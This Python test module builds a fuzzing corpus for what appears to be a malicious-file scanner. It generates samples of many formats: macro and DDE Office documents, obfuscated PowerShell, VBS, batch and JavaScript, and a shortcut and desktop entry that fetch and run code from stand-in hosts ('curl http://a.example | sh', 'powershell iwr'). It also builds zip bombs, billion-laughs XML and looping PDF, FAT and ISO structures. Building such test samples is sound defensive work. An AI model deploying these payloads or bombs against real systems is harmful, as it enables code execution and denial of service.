"""What the fuzzing starts from: sound files of each format, and bombs that are read as they are."""

import bz2
import gzip
import io
import lzma
import struct
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Final

import py7zr
import zstandard

from tests.documents import make_mail
from tests.file_samples import (
    COMMAND,
    DROPPER,
    encode_command,
    make_cab,
    make_doc,
    make_docm,
    make_harmless,
    make_iso,
    make_lnk,
    make_msi,
    make_native,
    make_onenote,
    make_package,
    make_pdf_of,
    make_rar,
    make_relation,
    make_rtf_object,
    make_tar,
    make_xls,
)
from tests.outlook_messages import Tree, make_message

Samples = dict[str, bytes]
_LISTING: Final = b"Lines of some text.\r\n" * 60


@cache
def make_corpus() -> dict[str, Samples]:
    """Samples by file name, by the group that the command line names; made once, as 7z writes the time."""
    return {name: make() for name, make in _GROUPS.items()}


def _make_archives() -> Samples:
    files = {
        "one.txt": _LISTING,
        "sub/run.js": b"var a = new ActiveXObject('WScript.Shell');",
        "b.exe": b"MZ" + bytes(300),
    }
    seven = io.BytesIO()
    with py7zr.SevenZipFile(seven, "w") as archive:
        for name, data in files.items():
            archive.writestr(data, name)
    tar = make_tar(files)
    return {
        "a.zip": make_package(dict(files)),
        "a.7z": seven.getvalue(),
        "a.tar": tar,
        "a.tar.gz": gzip.compress(tar, mtime=0),
        "a.tar.bz2": bz2.compress(tar),
        "a.tar.xz": lzma.compress(tar),
        "a.tar.zst": zstandard.compress(tar),
        "a.rar": make_rar(files),
        "b.rar": make_rar(files, compressed=True),
        "a.iso": make_iso(files),
        "a.cab": make_cab(files),
    }


def _make_office() -> Samples:
    native: Tree = {"ObjectPool": {"_1": {"\x01Ole10Native": make_native("a.exe", b"MZ" + bytes(64))}}}
    sheets = {
        "xl/workbook.xml": '<workbook><sheet name="m" state="hidden"/></workbook>',
        "xl/macrosheets/sheet1.xml": '<c r="A1"><f>EXEC("cmd /c calc")</f></c>',
    }
    return {
        "a.doc": make_doc(DROPPER, extra=native),
        "a.docm": make_docm(DROPPER),
        "a.docx": make_package(
            {
                "word/document.xml": "<w:document><w:instrText>DDEAUTO cmd</w:instrText></w:document>",
                "word/_rels/settings.xml.rels": make_relation("attachedTemplate", "http://fuzz.example/"),
                "docProps/core.xml": "<c><title>x</title></c>",
            }
        ),
        "a.xlsm": make_package(dict(sheets)),
        "a.xls": make_xls("cmd /c calc"),
        "a.rtf": make_rtf_object(b"Equation.3", bytes(64)),
        "b.rtf": make_rtf_object(b"Package", make_native("a.exe", b"MZ" + bytes(64))),
        "a.one": make_onenote(b"<job><script>x</script></job>", b"\x89PNG" + bytes(60)),
        "a.msi": make_msi("powershell -w hidden", 34),
    }


def _make_pdfs() -> Samples:
    return {
        "a.pdf": make_harmless()["report.pdf"],
        "b.pdf": make_pdf_of(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            "<< /Type /Pages /Kids [] /Count 0 >>",
            "<< /S /J#61vaScript /JS (app.alert\\(1\\);) >>",
            "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            "<< /Type /EmbeddedFile /Filter [/ASCIIHexDecode /RunLengthDecode] /Length 8 >>\n"
            "stream\n4d5a80>x\nendstream",
            '<< /Filter /LZWDecode /Length 9 >>\nstream\n\x80\x0b`P"\x0c\x0c\x85\x01\nendstream',
            "<< /Type /ObjStm /N 1 /First 4 /Length 40 >>\n"
            "stream\n9 0 << /S /URI /URI (http://fuzz.example) >>\nendstream",
        ),
    }


def _make_scripts() -> Samples:
    codes = " & ".join(f"Chr({ord(each)})" for each in COMMAND)
    return {
        "a.ps1": f"$a='x'+'y'; powershell -enc {encode_command()} | `I`E`X; [Convert]::x($a)".encode(),
        "a.vbs": f"Dim a\r\nSet a = CreateObject(b)\r\nExecute({codes})\r\n".encode(),
        "a.bat": f"@echo off\r\nset a=abc\r\n%a:~1,1%^c^m^d /c start {COMMAND}\r\n".encode(),
        "a.js": b"var a = new ActiveXObject('x'); "
        b"eval('\\x41\\x42\\x43\\x44\\u0041' + unescape('%41%42%43%44%45%46%u4141'))",
        "a.html": b"<html><script>var a=atob('QUJD')</script><iframe src=http://a.example width=0></iframe>"
        b"<form action=http://b.example><input type=password></form>"
        b"<a href='data:text/html;base64,QUJD'>x</a></html>",
        "a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "a.xml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><x><script>eval(a)</script></x>",
        "a.lnk": make_lnk("..\\cmd.exe", "/c powershell iwr http://fuzz.example", "a.pdf"),
        "a.url": b"[InternetShortcut]\r\nURL=file://a.example/b\r\nIconFile=\\\\a.example\\b\r\n",
        "a.desktop": b"[Desktop Entry]\nExec=sh -c 'curl http://a.example | sh'\n",
    }


def _make_executables() -> Samples:
    return {
        "true": Path("/bin/true").read_bytes(),
        "a.png": b"\x89PNG\r\n\x1a\n" + bytes(4) + b"IEND" + bytes(90),
    }


def _make_mails() -> Samples:
    mail = make_mail(
        "Dear you, see http://a.example/b", html="<p>Dear <b>you</b></p>", subject="=?utf-8?q?Hello?="
    )
    mail.add_attachment(make_docm(DROPPER), maintype="application", subtype="octet-stream", filename="a.docm")
    mail.set_boundary("=fuzz=")
    return {
        "a.eml": mail.as_bytes(),
        "a.msg": make_message({"0037": "Hello", "1000": "Dear you"}, attachments=(("a.txt", _LISTING),)),
    }


_GROUPS: Final[dict[str, Callable[[], Samples]]] = {
    "archives": _make_archives,
    "office": _make_office,
    "pdf": _make_pdfs,
    "scripts": _make_scripts,
    "executables": _make_executables,
    "mail": _make_mails,
}
GROUPS: Final = tuple(_GROUPS)


def make_bombs() -> Samples:
    """Files whose sound reading would never end or fill the memory."""
    return {
        "zeros.gz": gzip.compress(bytes(16 * 1024 * 1024), 6),
        "flat.zip": _make_overlapping_zip(),
        "deep.zip": _make_deep_zip(100),
        "many.zip": _make_many_zip(100_000),
        "loop.pdf": make_pdf_of(
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 9 >>"
        ),
        "prev.pdf": _make_looping_xref(),
        "lengths.pdf": make_pdf_of(*["<< /Length 99999999 >>\nstream\nx"] * 20_000),
        "fat.doc": _make_looping_fat(),
        "laughs.docx": make_package(
            {"word/document.xml": _make_laughs(), "docProps/core.xml": _make_laughs()}
        ),
        "laughs.xml": _make_laughs().encode(),
        "loop.iso": _make_looping_iso(),
        "lies.lnk": make_lnk("a", "b")[:76] + b"\xff\xff" * 400,
        "nested.html": b"<div>" * 100_000,
        "brackets.rtf": b"{\\rtf1" + b"{" * 300_000,
        "scripts.xml": b"<?xml version='1.0'?><a>" + b"<script>" * 60_000,
        "relations.docx": make_package(
            {"word/document.xml": "<x/>", "_rels/.rels": "<Relationship " * 60_000}
        ),
        "lines.url": b"[InternetShortcut]\n" + b" \n" * 200_000,
        "spaces.js": b"var a = 1; function b() {}; atob; eval" + b" " * 300_000,
        "blank.doc": make_doc("Attribute VB_Name = 'x'\r\n" + "\n" * 3_000 + DROPPER),
        "strings.pdf": make_pdf_of("<< /Type /Catalog " + "/JS (" * 40_000 + " >>"),
        "quotes.ps1": b"Write-Host $a; New-Object x\n" + b"'a'+" * 150_000,
    }


def _make_overlapping_zip() -> bytes:
    """A thousand members that are all the same two megabytes of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", bytes(2 * 1024 * 1024))
    data = buffer.getvalue()
    at = data.rfind(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    entry = data[at:end]
    directory = entry * 1_000
    counts = struct.pack("<HHHHIIH", 0, 0, 1_000, 1_000, len(directory), at, 0)
    return data[:at] + directory + b"PK\x05\x06" + counts


def _make_deep_zip(depth: int) -> bytes:
    data = b"the innermost"
    for number in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{number}.zip", data)
        data = buffer.getvalue()
    return data


def _make_many_zip(count: int) -> bytes:
    """By hand: the writer of the standard library takes seconds for it."""
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 5, 0)
    entry = struct.pack("<4sHHHHHHIIIHHHHHI", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 5, 0, 0, 0, 0, 0)
    body, directory = bytearray(), bytearray()
    for number in range(count):
        name = f"{number:05x}".encode()
        directory += entry + struct.pack("<I", len(body)) + name
        body += local + name
    shown = min(count, 0xFFFF)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, shown, shown, len(directory), len(body), 0)
    return bytes(body + directory + end)


def _make_looping_xref() -> bytes:
    data = make_pdf_of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>")
    at = data.find(b"xref")
    return data.replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Prev %d >>" % at)


def _make_looping_fat() -> bytes:
    """Each sector of each stream is followed by itself."""
    data = bytearray(make_doc(DROPPER))
    sector = struct.unpack_from("<I", data, 76)[0]
    at = (sector + 1) * 512
    for number in range(128):
        if struct.unpack_from("<I", data, at + 4 * number)[0] < 0xFFFFFFF0:
            struct.pack_into("<I", data, at + 4 * number, number)
    return bytes(data)


def _make_laughs() -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "lol">{entities}]><l>&l11;</l>'


def _make_looping_iso() -> bytes:
    """The root holds itself under many names."""
    data = bytearray(make_iso({f"F{number:03}": b"x" for number in range(30)}))
    at = 19 * 2048
    while data[at]:
        data[at + 25] = 2
        struct.pack_into("<I", data, at + 2, 19)
        struct.pack_into("<I", data, at + 10, 2048)
        at += data[at]
    return bytes(data)
